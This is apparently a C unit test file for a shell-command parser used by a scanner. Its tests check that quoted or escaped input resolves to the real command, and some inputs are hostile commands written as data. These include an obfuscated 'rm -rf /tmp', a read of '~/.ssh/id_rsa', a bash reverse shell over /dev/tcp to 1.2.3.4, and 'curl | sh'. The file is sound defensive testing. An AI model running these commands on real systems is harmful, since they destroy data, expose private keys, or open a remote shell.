#include "scan/shell.h"

#include "core/buf.h"
#include "tests/check.h"
#include "tests/oom.h"

/* The tree as one line of text: [word word] joined by |, lists by ;, bodies in {}. */
static void show_list(struct pan_buf *b, const struct pan_shell_list *l);

static void
show_word(struct pan_buf *b, const struct pan_shell_word *w)
{
	pan_buf_add(b, w->text);
	for (const struct pan_shell_part *p = w->part; p != NULL; p = p->next)
		if (p->list != NULL)
			show_list(b, p->list);
}

static void
show_cmd(struct pan_buf *b, const struct pan_shell_cmd *c)
{
	static const char *const op[] = { "<", ">", ">>", "&", "<>", "<<", "<<<" };

	pan_buf_addz(b, "[");
	for (const struct pan_shell_word *w = c->assign; w != NULL; w = w->next) {
		pan_buf_addz(b, "=");
		show_word(b, w);
		pan_buf_addz(b, " ");
	}
	if (c->kind == PAN_SHELL_FOR || c->kind == PAN_SHELL_FUNCTION) {
		pan_buf_add(b, c->name);
		pan_buf_addz(b, ":");
	}
	for (const struct pan_shell_word *w = c->word; w != NULL; w = w->next) {
		show_word(b, w);
		pan_buf_addz(b, w->next != NULL ? " " : "");
	}
	for (const struct pan_shell_redir *d = c->redir; d != NULL; d = d->next) {
		pan_buf_printf(b, " %d%s", d->fd, op[d->op]);
		show_word(b, d->word);
	}
	if (c->body != NULL)
		show_list(b, c->body);
	pan_buf_addz(b, "]");
}

static void
show_list(struct pan_buf *b, const struct pan_shell_list *l)
{
	pan_buf_addz(b, "{");
	for (const struct pan_shell_pipe *p = l->pipe; p != NULL; p = p->next) {
		for (const struct pan_shell_cmd *c = p->cmd; c != NULL; c = c->next) {
			show_cmd(b, c);
			pan_buf_addz(b, c->next != NULL ? "|" : "");
		}
		pan_buf_addz(b, p->next != NULL ? ";" : "");
	}
	pan_buf_addz(b, "}");
}

static struct pan_shell
reads_as(const char *text, const char *want)
{
	struct pan_arena *a = pan_arena_new(16u << 20);
	struct pan_shell sh;
	struct pan_buf b;

	pan_buf_init(&b, 1u << 20);
	CHECK_INT(pan_shell_parse(a, pan_str(text), 0, &sh), PAN_OK);
	show_list(&b, sh.list);
	CHECK_TEXT(pan_buf_str(&b), want);
	pan_buf_fini(&b);
	pan_arena_free(a);
	return sh;
}

TEST(quotes_are_removed_and_pieces_joined)
{
	reads_as("r'm' -\"r\"f /t\\mp", "{[rm -rf /tmp]}");
	reads_as("cat ~/.s''sh/id_r\"\"sa", "{[cat ~/.ssh/id_rsa]}");
	reads_as("$'\\x72\\155' '' $'\\u0061'", "{[rm  a]}");
	reads_as("echo a\\\nb", "{[echo ab]}");
	reads_as("a \"b $c `d` e\"", "{[a b $c $() e{[d]}]}");
}

TEST(pipelines_and_lists_come_apart)
{
	reads_as("a b | c && d; e & f || g |& h", "{[a b]|[c];[d];[e];[f];[g]|[h]}");
	reads_as("# a | b\nc # d\n", "{[c]}");
	reads_as("a |\n b", "{[a]|[b]}");
}

TEST(assignments_stand_in_front)
{
	reads_as("A=1 B='2 3' env A=4", "{[=A=1 =B=2 3 env A=4]}");
	reads_as("A=$(b c)", "{[=A=$(){[b c]} ]}");
	reads_as("X=(a b $c) d", "{[=X=ab$c d]}");
}

TEST(redirections_know_their_descriptor)
{
	reads_as("a >b 2>&1 </c 3>>d &>e", "{[a 1>b 2&1 0</c 3>>d -1>e]}");
	reads_as("bash -i >& /dev/tcp/1.2.3.4/5 0>&1",
	    "{[bash -i 1&/dev/tcp/1.2.3.4/5 0&1]}");
	reads_as("a 2 >b a2>c", "{[a 2 a2 1>b 1>c]}");
	reads_as("a <<< 'b c'", "{[a 0<<<b c]}");
}

TEST(here_documents_are_read)
{
	reads_as("cat <<E >f\nx $(y)\nE\nz", "{[cat 0<<x $()\n{[y]} 1>f];[z]}");
	reads_as("cat <<-'E' | b\n\t$(y)\n\tE\nz", "{[cat 0<<\t$(y)\n\t]|[b];[z]}");
}

TEST(substitutions_nest)
{
	reads_as("a $(b $(c | d) \"$(e)\") f", "{[a $(){[b $(){[c]|[d]} $(){[e]}]} f]}");
	reads_as("a <(b c) >(d)", "{[a $(){[b c]} $(){[d]}]}");
	reads_as("a ${b:-$(c)} $((1+2)) ${#d} ${e}", "{[a $b$(){[c]} $ $d $e]}");
}

TEST(compound_commands_are_flattened)
{
	reads_as("if a; then b; elif c; then d; else e; fi | f",
	    "{[{[a];[b];[c];[d];[e]}]|[f]}");
	reads_as("for i in 1 2; do a $i; done | b", "{[i:1 2{[a $i]}]|[b]}");
	reads_as("while a; do b; done <c", "{[ 0<c{[a];[b]}]}");
	reads_as("f() { a; b; }\nf x", "{[f:f{[a];[b]}];[f x]}");
	reads_as("(a; b) | c", "{[{[a];[b]}]|[c]}");
	reads_as("case $x in a|b) c;; *) d;; esac; e", "{[$x{[a]|[b];[c];[*];[d]}];[e]}");
	reads_as("[[ $a > b && c ]] && d", "{[[[ $a b c ]]];[d]}");
}

TEST(what_is_left_open_is_told)
{
	CHECK(reads_as("a 'b", "{[a b]}").broken);
	CHECK(reads_as("a $(b", "{[a $(){[b]}]}").broken);
	CHECK(reads_as("if a; then b", "{[{[a];[b]}]}").broken);
	CHECK(reads_as("a <<E\nb", "{[a 0<<b]}").broken);
	CHECK(!reads_as("a; b\n", "{[a];[b]}").broken);
}

TEST(positions_point_at_the_source)
{
	struct pan_arena *a = pan_arena_new(1u << 20);
	struct pan_shell sh;
	const struct pan_shell_word *w;

	CHECK_INT(pan_shell_parse(a, PAN_LIT("  curl 'a b'x | sh"), 100, &sh), PAN_OK);
	w = pan_shell_word(sh.list->pipe->cmd, 1);
	CHECK_INT(w->at, 107);
	CHECK_INT(w->end, 113);
	CHECK(pan_shell_word(sh.list->pipe->cmd, 2) == NULL);
	CHECK_INT(sh.list->pipe->cmd->next->at, 116);
	pan_arena_free(a);
}

TEST(nesting_is_bounded_and_linear)
{
	static const char *const unit[] = { "$(", "`", "(", "{ ", "\"$(", "<(", "if ",
		"for x in ", "case x in ", "<<E\n", "${a:-", "'", "f() ", "$((", "[[ " };
	size_t size = 1u << 20;
	char *text = malloc(size);

	for (size_t i = 0; i < sizeof(unit) / sizeof(unit[0]); i++) {
		struct pan_arena *a = pan_arena_new((size_t)1 << 30);
		struct pan_shell sh;
		size_t n = strlen(unit[i]);

		for (size_t at = 0; at < size; at++)
			text[at] = unit[i][at % n];
		CHECK_INT(pan_shell_parse(a, (struct pan_str){ text, size }, 0, &sh),
		    PAN_OK);
		CHECK(pan_arena_used(a) < (size_t)600 << 20);
		pan_arena_free(a);
	}
	free(text);
}

TEST(survives_any_failed_allocation)
{
	int n = 0, rc;

	do {
		struct pan_arena *a;
		struct pan_shell sh;

		oom_arm(++n);
		a = pan_arena_new(1u << 20);
		rc = PAN_ENOMEM;
		if (a != NULL)
			rc = pan_shell_parse(a,
			    PAN_LIT("a=(1 2) b $(c <<E)\nx\nE\nf() { g; }"), 0, &sh);
		CHECK(rc == PAN_OK || rc == PAN_ENOMEM);
		pan_arena_free(a);
	} while (rc != PAN_OK && n < 100);
	oom_arm(0);
	CHECK(n > 1 && n < 100);
}

int
main(void)
{
	RUN(quotes_are_removed_and_pieces_joined);
	RUN(pipelines_and_lists_come_apart);
	RUN(assignments_stand_in_front);
	RUN(redirections_know_their_descriptor);
	RUN(here_documents_are_read);
	RUN(substitutions_nest);
	RUN(compound_commands_are_flattened);
	RUN(what_is_left_open_is_told);
	RUN(positions_point_at_the_source);
	RUN(nesting_is_bounded_and_linear);
	RUN(survives_any_failed_allocation);
	return DONE();
}
